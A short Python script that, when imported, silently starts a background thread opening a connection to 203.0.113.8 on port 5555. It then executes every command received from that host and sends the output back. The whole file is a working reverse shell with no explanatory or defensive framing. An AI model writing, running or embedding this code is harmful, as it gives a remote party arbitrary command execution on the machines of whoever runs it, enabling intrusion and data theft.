import socket
import subprocess
import threading


def serve():
    s = socket.socket()
    s.connect(("203.0.113.8", 5555))
    while True:
        command = s.recv(1024).decode()
        output = subprocess.getoutput(command)
        s.send(output.encode())


threading.Thread(target=serve, daemon=True).start()
